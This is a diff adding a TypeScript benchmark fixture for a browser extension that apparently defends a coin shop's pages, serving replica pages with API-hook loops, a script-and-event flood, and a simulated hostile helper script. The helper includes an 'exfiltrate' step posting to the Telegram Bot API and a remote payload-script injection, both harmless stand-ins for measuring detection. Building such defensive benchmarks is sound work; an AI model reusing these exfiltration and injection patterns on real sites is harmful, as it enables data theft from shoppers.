@@ -1,0 +1,242 @@
+/**
+ * The pages browser benchmarks load, served by the shop replica under the shop's real hostname (so
+ * Saq's content scripts run on them exactly as on the shop):
+ * - a blank shop page (a tab's first stop, so a measured navigation stays in one renderer process);
+ * - the hook page: the shop's own inline code calling a hooked API in a loop (actor "page", the common
+ *   case every shop request and click takes);
+ * - the real product page plus a helper: a foreign script from the helper CDN, parser-inserted, whose
+ *   functions the benchmark calls on cue, and an inline "shop code" function that bursts cart requests;
+ * - the flood page: the product page plus a hostile script that inserts 10,000 scripts and dispatches
+ *   100,000 synthetic events in small chunks, and an inline event-loop monitor.
+ * Benchmarks start page functions with setTimeout(fn, 0, …) from an evaluation, so the stack a hook
+ * captures holds the page's or the helper's frames only, never the automation driver's.
+ */
+import { request } from 'node:http';
+import { HELPER_CDN } from '../../tests/helpers/hostile-scripts.ts';
+import type { ShopServer } from '../../tests/shop/index.ts';
+
+export const PRODUCT_PATH = '/kz/product/snow-leopard-silver';
+export const PRODUCT_SLUG = 'snow-leopard-silver';
+export const BLANK_PATH = '/__bench/blank';
+export const HOOKS_PATH = '/__bench/hooks';
+export const REACTION_PATH = `${PRODUCT_PATH}?bench=reaction`;
+export const FLOOD_PATH = `${PRODUCT_PATH}?bench=flood`;
+export const HELPER_URL = `https://${HELPER_CDN}/bench-helper.js`;
+export const FLOOD_URL = `https://${HELPER_CDN}/bench-flood.js`;
+
+export const HOOK_OPS = ['fetch', 'xhr', 'addEventListener', 'appendChild', 'click'] as const;
+export type HookOp = (typeof HOOK_OPS)[number];
+
+/**
+ * Each op's loop. Setup (elements, listeners, abort signal) happens before the clock starts.
+ * - fetch: the synchronous part of a call, with an already-aborted signal, so 100,000 calls measure
+ *   the call path (where a hook's work sits) rather than the network and the replica's disk.
+ * - xhr: open() of a same-origin GET plus send() of a request already in flight, which the browser
+ *   refuses after the hooks have done their full work: a real send per call would measure the network
+ *   service (about 1 ms per request here, growing as 100,000 of them queue), not the hooks.
+ * - addEventListener: 100,000 distinct (element, listener) pairs, so the browser's duplicate check
+ *   stays short and every call registers a listener.
+ * - appendChild: 100,000 fresh <div>s appended to a container in the document (the observers see them).
+ * - click: HTMLElement.click() on a plain button that is no purchase control.
+ */
+const HOOK_PAGE_SCRIPT = `
+window.__bench = (() => {
+  const noop = () => {};
+  const loops = {
+    fetch(n) {
+      const controller = new AbortController();
+      controller.abort();
+      const init = { signal: controller.signal };
+      return () => { for (let i = 0; i < n; i++) fetch('/api/stock/bench', init).catch(noop); };
+    },
+    xhr(n) {
+      // One request really goes out; every later send() is refused by the browser (the request is in
+      // flight or done) after the hooks have done their full work. open() alone never touches the network.
+      const sent = new XMLHttpRequest();
+      sent.open('GET', '/api/stock/bench');
+      sent.send();
+      const fresh = new XMLHttpRequest();
+      return () => {
+        for (let i = 0; i < n; i++) {
+          fresh.open('GET', '/api/stock/bench');
+          try { sent.send(); } catch {}
+        }
+      };
+    },
+    addEventListener(n) {
+      const elements = Array.from({ length: 1000 }, () => document.createElement('div'));
+      const listeners = Array.from({ length: Math.ceil(n / 1000) }, () => function () {});
+      return () => { for (let i = 0; i < n; i++) elements[i % 1000].addEventListener('click', listeners[(i / 1000) | 0]); };
+    },
+    appendChild(n) {
+      const container = document.createElement('div');
+      container.hidden = true;
+      document.body.appendChild(container);
+      const nodes = Array.from({ length: n }, () => document.createElement('div'));
+      return () => { for (let i = 0; i < n; i++) container.appendChild(nodes[i]); };
+    },
+    click(n) {
+      const button = document.getElementById('bench-button');
+      return () => { for (let i = 0; i < n; i++) button.click(); };
+    },
+  };
+  return {
+    start(op, n) {
+      const loop = loops[op](n);
+      const started = performance.now();
+      loop();
+      const ms = performance.now() - started;
+      window.__benchDone({ ms });
+    },
+  };
+})();`;
+
+const HOOKS_HTML = `<!doctype html><html lang="kk"><head><meta charset="utf-8"><title>bench: hooks</title>
+<script>${HOOK_PAGE_SCRIPT}</script></head>
+<body><button type="button" id="bench-button">bench</button></body></html>`;
+
+const BLANK_HTML = '<!doctype html><html lang="kk"><head><meta charset="utf-8"><title>bench</title></head><body></body></html>';
+
+/**
+ * The helper's actions, each stamping Date.now() — the system clock, which the badge observer reads
+ * too, whatever process it runs in — right before the act.
+ */
+const HELPER_SCRIPT = `
+window.__benchHelper = {
+  actions: [],
+  insertScript() {
+    const script = document.createElement('script');
+    script.src = 'https://${HELPER_CDN}/payload.js?' + Math.random().toString(36).slice(2);
+    window.__benchHelper.actions.push(Date.now());
+    document.head.appendChild(script);
+  },
+  clickBuy() {
+    const button = document.querySelector('[data-action="add-to-cart"]');
+    window.__benchHelper.actions.push(Date.now());
+    button.click();
+  },
+  exfiltrate() {
+    window.__benchHelper.actions.push(Date.now());
+    fetch('https://api.telegram.org/bot0000:bench/sendMessage', { method: 'POST', mode: 'no-cors', body: 'chat_id=1&text=bench' }).catch(() => {});
+  },
+};`;
+
+/** "Shop code" bursting cart requests (actor: the page), so only the rate rule can light the badge. */
+const CART_BURST_INLINE = `
+window.__benchShop = {
+  actions: [],
+  cartBurst(count, gapMs) {
+    let sent = 0;
+    const send = () => {
+      window.__benchShop.actions.push(Date.now());
+      fetch('/api/cart/items', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ productId: 'bench', qty: 1 }) }).catch(() => {});
+      if (++sent < count) setTimeout(send, gapMs);
+    };
+    send();
+  },
+};`;
+
+/**
+ * Event-loop monitor for the flood: a 10 ms timer chain records how late each timer fires (≈ the
+ * longest task that ran meanwhile) and, in Chromium, long tasks from PerformanceObserver. A timer
+ * chain, not a busy ping-pong, so the monitor itself costs next to nothing and lets the tab go quiet.
+ */
+const FLOOD_MONITOR_INLINE = `
+window.__benchMonitor = (() => {
+  const state = { maxGapMs: 0, longTasks: [], running: false };
+  let expected = 0;
+  const tick = () => {
+    const now = performance.now();
+    const late = now - expected;
+    if (late > state.maxGapMs) state.maxGapMs = late;
+    expected = now + 10;
+    if (state.running) setTimeout(tick, 10);
+  };
+  try {
+    new PerformanceObserver((list) => { for (const entry of list.getEntries()) state.longTasks.push(entry.duration); })
+      .observe({ type: 'longtask', buffered: false });
+  } catch { state.longTaskApi = false; }
+  return {
+    state,
+    start() { state.running = true; expected = performance.now() + 10; setTimeout(tick, 10); },
+    stop() { state.running = false; },
+  };
+})();`;
+
+/**
+ * The flood, in chunks of 100 scripts or 1,000 events per task (a task of the page itself stays far
+ * below 50 ms, so long tasks seen only with Saq are Saq's). Inline scripts: no 10,000 downloads.
+ * Events alternate mousedown on add to cart (an activation Saq watches, without making the shop send
+ * 50,000 cart requests) and input on the quantity field. Started by start(); the result lands in
+ * __benchFlood.result, the progress so far in __benchFlood.progress; stop() ends it early.
+ */
+const FLOOD_SCRIPT = `
+window.__benchFlood = {
+  result: null,
+  progress: { scripts: 0, events: 0 },
+  stopped: false,
+  stop() { window.__benchFlood.stopped = true; },
+  start(scripts, events) {
+    const started = performance.now();
+    const button = document.querySelector('[data-action="add-to-cart"]');
+    const quantity = document.querySelector('[data-role="quantity"]') || button;
+    let insertedScripts = 0;
+    let dispatched = 0;
+    const step = () => {
+      if (insertedScripts < scripts) {
+        for (let i = 0; i < 100 && insertedScripts < scripts; i++, insertedScripts++) {
+          const script = document.createElement('script');
+          script.textContent = 'window.__floodCount = (window.__floodCount || 0) + 1; // ' + insertedScripts;
+          document.body.appendChild(script);
+          script.remove();
+        }
+      } else {
+        for (let i = 0; i < 1000 && dispatched < events; i++, dispatched++) {
+          if (dispatched % 2 === 0) button.dispatchEvent(new MouseEvent('mousedown', { bubbles: true, cancelable: true }));
+          else quantity.dispatchEvent(new Event('input', { bubbles: true }));
+        }
+      }
+      window.__benchFlood.progress = { scripts: insertedScripts, events: dispatched, ms: performance.now() - started };
+      if (window.__benchFlood.stopped) return;
+      if (insertedScripts < scripts || dispatched < events) setTimeout(step, 0);
+      else window.__benchFlood.result = { ms: performance.now() - started, scriptsRan: window.__floodCount || 0, events: dispatched };
+    };
+    step();
+  },
+};`;
+
+/** The replica's own HTML for a path (plain HTTP on the replica's port, routed by Host). */
+function fetchShopHtml(shop: ShopServer, path: string): Promise<string> {
+  return new Promise((resolve, reject) => {
+    const req = request({ host: '127.0.0.1', port: shop.httpsPort, path, headers: { host: 'kazcoins.nationalbank.kz' } }, (res) => {
+      const chunks: Buffer[] = [];
+      res.on('data', (chunk: Buffer) => chunks.push(chunk));
+      res.on('end', () => {
+        if (res.statusCode !== 200) reject(new Error(`replica answered ${res.statusCode} for ${path}`));
+        else resolve(Buffer.concat(chunks).toString('utf8'));
+      });
+    });
+    req.on('error', reject);
+    req.end();
+  });
+}
+
+function withHeadScripts(html: string, scripts: string): string {
+  const at = html.indexOf('</head>');
+  if (at < 0) throw new Error('the replica page has no </head> to add the bench scripts to');
+  return html.slice(0, at) + scripts + html.slice(at);
+}
+
+/** Registers every bench page and script on the replica; call again after shop.clearFixtures(). */
+export async function installBenchPages(shop: ShopServer): Promise<void> {
+  shop.setSalePhase(PRODUCT_SLUG, 'on-sale');
+  const product = await fetchShopHtml(shop, PRODUCT_PATH);
+  const js = { host: HELPER_CDN, contentType: 'text/javascript' };
+  shop.setFixture(BLANK_PATH, BLANK_HTML);
+  shop.setFixture(HOOKS_PATH, HOOKS_HTML);
+  shop.setFixture('/bench-helper.js', HELPER_SCRIPT, js);
+  shop.setFixture('/bench-flood.js', FLOOD_SCRIPT, js);
+  shop.setFixture('/payload.js', 'window.__payloadRan = true;', js);
+  shop.setFixture(REACTION_PATH, withHeadScripts(product, `<script>${CART_BURST_INLINE}</script><script src="${HELPER_URL}"></script>`));
+  shop.setFixture(FLOOD_PATH, withHeadScripts(product, `<script>${FLOOD_MONITOR_INLINE}</script><script src="${FLOOD_URL}"></script>`));
+}
